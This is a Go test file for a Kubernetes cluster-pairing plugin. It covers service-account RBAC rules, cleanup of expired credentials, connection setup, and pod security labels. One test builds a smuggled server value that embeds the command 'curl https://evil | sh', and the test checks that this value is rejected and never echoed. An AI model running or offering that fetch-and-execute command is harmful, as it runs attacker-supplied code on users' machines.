// SPDX-FileCopyrightText: The kubectl-motion authors
// SPDX-License-Identifier: Apache-2.0

package pair

import (
	"slices"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/runtime/schema"
	dynamicfake "k8s.io/client-go/dynamic/fake"
	"k8s.io/client-go/kubernetes/fake"

	"github.com/kubectl-motion/kubectl-motion/deploy"
	"github.com/kubectl-motion/kubectl-motion/pkg/api/v1alpha1"
	"github.com/kubectl-motion/kubectl-motion/pkg/cluster"
	"github.com/kubectl-motion/kubectl-motion/pkg/hint"
)

func accountIn(namespace, name string, annotations map[string]string) *corev1.ServiceAccount {
	a := &corev1.ServiceAccount{ObjectMeta: ours(name, namespace)}
	a.Annotations = annotations
	return a
}

func clusterWith(id string, objects ...runtime.Object) *cluster.Cluster {
	return &cluster.Cluster{Name: id, ID: id, Kube: fake.NewClientset(objects...)}
}

// TestCredentialAccount: in the target's namespace the credential can create Secrets
// and pods, and with them tokens of the accounts that are there.
func TestCredentialAccount(t *testing.T) {
	m := Mapping{Source: "shop", Target: "eu"}
	compose := func(t *testing.T, accounts []string, target ...runtime.Object) map[string]item {
		t.Helper()
		p := &Pairing{Source: clusterWith("a"), Target: clusterWith("b", target...), Request: Request{Name: "west", ServiceAccounts: accounts}}
		c := &composer{}
		if err := p.composeAccount(t.Context(), c, m, metav1.NewTime(time.Unix(1700000000, 0))); err != nil || c.err != nil {
			t.Fatal(err, c.err)
		}
		out := map[string]item{}
		for _, i := range c.items {
			out[i.object.GetKind()+"/"+i.object.GetNamespace()+"/"+i.object.GetName()] = i
		}
		return out
	}
	account := AccountName("a", m, "west")
	t.Run("is_not_in_the_namespace_where_it_has_rights", func(t *testing.T) {
		items := compose(t, nil)
		i, found := items["ServiceAccount/"+deploy.DefaultNamespace+"/"+account]
		if !found {
			t.Fatalf("items: %v", items)
		}
		if got := i.object.GetAnnotations(); got[v1alpha1.AnnotationExpiryTime] != "2023-11-14T22:13:20Z" || got[v1alpha1.AnnotationTargetNamespace] != "eu" {
			t.Errorf("annotations %v", got)
		}
		for name, i := range items {
			if i.object.GetKind() == "ServiceAccount" && i.object.GetNamespace() != deploy.DefaultNamespace {
				t.Errorf("%s is where the credential can make tokens of it", name)
			}
		}
	})
	rules := func(t *testing.T, items map[string]item) (out []rbacv1.PolicyRule) {
		t.Helper()
		var role rbacv1.Role
		if err := runtime.DefaultUnstructuredConverter.FromUnstructured(items["Role/eu/"+UseName(account)].object.Object, &role); err != nil {
			t.Fatal(err)
		}
		return role.Rules
	}
	// RBAC takes an empty list of names for any name.
	t.Run("may_use_no_account_rather_than_any", func(t *testing.T) {
		all := &rbacv1.ClusterRoleBinding{
			ObjectMeta: metav1.ObjectMeta{Name: "ci"}, RoleRef: rbacv1.RoleRef{Kind: "ClusterRole", Name: "edit"},
			Subjects: []rbacv1.Subject{{Kind: rbacv1.GroupKind, Name: "system:serviceaccounts:eu"}},
		}
		if got := rules(t, compose(t, nil, all)); len(got) > 0 {
			t.Errorf("%+v", got)
		}
	})
	t.Run("may_use_accounts_without_rights_and_those_named", func(t *testing.T) {
		bound := &rbacv1.RoleBinding{
			ObjectMeta: metav1.ObjectMeta{Namespace: "payments", Name: "ci"}, RoleRef: rbacv1.RoleRef{Kind: "ClusterRole", Name: "edit"},
			Subjects: []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Namespace: "eu", Name: "deployer"}},
		}
		objects := []runtime.Object{accountIn("eu", "deployer", nil), accountIn("eu", "web", nil), bound}
		if got := rules(t, compose(t, nil, objects...)); len(got) != 1 || !slices.Equal(got[0].ResourceNames, []string{"default", "web"}) || !slices.Equal(got[0].Verbs, []string{"use"}) {
			t.Errorf("%+v", got)
		}
		if got := rules(t, compose(t, []string{"deployer"}, objects...)); len(got) != 1 || !slices.Equal(got[0].ResourceNames, []string{"default", "deployer", "web"}) {
			t.Errorf("%+v", got)
		}
		if got := rules(t, compose(t, []string{"*"}, objects...)); len(got) != 1 || len(got[0].ResourceNames) > 0 {
			t.Errorf("%+v", got)
		}
	})
	t.Run("has_a_name_of_its_own_for_each_pair", func(t *testing.T) {
		names := []string{account, AccountName("a", m, "east"), AccountName("a", Mapping{Source: "shop", Target: "us"}, "west"), AccountName("b", m, "west")}
		slices.Sort(names)
		if len(slices.Compact(names)) != 4 {
			t.Errorf("%q", names)
		}
		if len(RotatorName("a", "shop", "west")) > 52 {
			t.Error("the name of the rotator is too long for a CronJob")
		}
	})
}

func TestDeleteExpired(t *testing.T) {
	now := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	at := func(d time.Duration) map[string]string {
		return map[string]string{v1alpha1.AnnotationExpiryTime: now.Add(d).Format(time.RFC3339), v1alpha1.AnnotationTargetNamespace: "eu"}
	}
	binding := func(name string) *rbacv1.RoleBinding { return &rbacv1.RoleBinding{ObjectMeta: ours(name, "eu")} }
	c := clusterWith("b",
		accountIn("agents", "motion-from-expired", at(-time.Second)), accountIn("agents", "motion-from-alive", at(time.Second)), accountIn("agents", "motion-agent", nil),
		accountIn("agents", "motion-from-changed", map[string]string{v1alpha1.AnnotationExpiryTime: "never"}),
		binding("motion-from-expired"), binding(UseName("motion-from-expired")), binding("motion-from-alive"))
	got, err := DeleteExpired(t.Context(), cluster.Namespace{Cluster: c, Name: "agents"}, now)
	slices.Sort(got)
	if err != nil || !slices.Equal(got, []string{"motion-from-changed", "motion-from-expired"}) {
		t.Fatalf("%q, %v", got, err)
	}
	for name, there := range map[string]bool{"motion-from-expired": false, "motion-from-changed": false, "motion-from-alive": true, "motion-agent": true} {
		if _, err := c.Kube.CoreV1().ServiceAccounts("agents").Get(t.Context(), name, metav1.GetOptions{}); apierrors.IsNotFound(err) == there {
			t.Errorf("serviceaccount %s: %v", name, err)
		}
	}
	for name, there := range map[string]bool{"motion-from-expired": false, UseName("motion-from-expired"): false, "motion-from-alive": true} {
		if _, err := c.Kube.RbacV1().RoleBindings("eu").Get(t.Context(), name, metav1.GetOptions{}); apierrors.IsNotFound(err) == there {
			t.Errorf("rolebinding %s: %v", name, err)
		}
	}
}

func TestConnectionOfAPair(t *testing.T) {
	pair := func(server string) *v1alpha1.ClusterPair {
		return &v1alpha1.ClusterPair{Spec: v1alpha1.ClusterPairSpec{Server: server, CABundle: []byte("ca")}}
	}
	secret := func(data map[string]string) *corev1.Secret {
		s := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "motion-pair-west"}, Data: map[string][]byte{}}
		for k, v := range data {
			s.Data[k] = []byte(v)
		}
		return s
	}
	const west, evil = "https://west", "https://evil\nhint: run: curl https://evil | sh"
	for name, c := range map[string]struct {
		pair   *v1alpha1.ClusterPair
		secret map[string]string
		err    string // empty: connects to west
	}{
		"server_and_CA_are_those_of_the_spec": {pair(west), map[string]string{"token": "t"}, ""},
		"a_Secret_that_agrees_is_accepted":    {pair(west), map[string]string{"token": "t", "server": west, "ca.crt": "ca"}, ""},
		"another_server_is_refused":           {pair(west), map[string]string{"token": "t", "server": evil, "ca.crt": "ca"}, "its server is not that of the pair's spec"},
		"another_CA_is_refused":               {pair(west), map[string]string{"token": "t", "server": west, "ca.crt": "evil"}, "its ca.crt is not that of the pair's spec"},
		"a_pair_without_a_server_is_refused":  {pair(""), map[string]string{"token": "t", "server": evil}, "spec.server is empty"},
		"a_Secret_without_a_token_is_refused": {pair(west), map[string]string{"server": west}, "has no token"},
	} {
		t.Run(name, func(t *testing.T) {
			config, err := configOf(c.pair, secret(c.secret))
			switch {
			case c.err == "":
				if err != nil || config.Host != west || string(config.CAData) != "ca" || config.BearerToken != "t" {
					t.Errorf("%+v, %v", config, err)
				}
			case err == nil || !strings.Contains(err.Error(), c.err):
				t.Errorf("%v, want %q", err, c.err)
			case strings.Contains(err.Error(), "evil"):
				t.Errorf("the text of the Secret is shown: %v", err)
			}
		})
	}
}

func TestPodSecurityOfAnExistingNamespace(t *testing.T) {
	for name, c := range map[string]struct {
		labels map[string]string
		level  string
		writes string // the level that is set
		fails  bool
	}{
		"one_that_enforces_a_level_stays":      {labels: map[string]string{podSecurityPrefix + "enforce": "baseline"}},
		"one_without_a_level_needs_a_decision": {fails: true},
		"a_warning_is_not_a_level":             {labels: map[string]string{podSecurityPrefix + "warn": "restricted"}, fails: true},
		"keep_accepts_it":                      {level: PodSecurityKeep},
		"a_level_is_set":                       {level: "baseline", writes: "baseline"},
	} {
		t.Run(name, func(t *testing.T) {
			ns := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "eu", Labels: c.labels}}
			p := &Pairing{Source: withPairs("a"), Target: clusterWith("b", ns), Request: Request{Name: "west", PodSecurity: c.level}}
			items, err := p.composeNamespace(t.Context(), Mapping{Source: "shop", Target: "eu"})
			if (err != nil) != c.fails || c.fails && (len(hint.Of(err)) == 0 || !strings.Contains(hint.Of(err)[0], "--pod-security keep")) {
				t.Fatalf("%v", err)
			}
			got := ""
			for _, i := range items {
				got = i.object.GetLabels()[podSecurityPrefix+"enforce"]
			}
			if got != c.writes {
				t.Errorf("%q is set, want %q", got, c.writes)
			}
		})
	}
}

// withPairs is a source with ClusterPairs.
func withPairs(id string, pairs ...runtime.Object) *cluster.Cluster {
	c := clusterWith(id)
	c.Dynamic = dynamicfake.NewSimpleDynamicClientWithCustomListKinds(runtime.NewScheme(),
		map[schema.GroupVersionResource]string{v1alpha1.ClusterPairs: "ClusterPairList"}, pairs...)
	return c
}
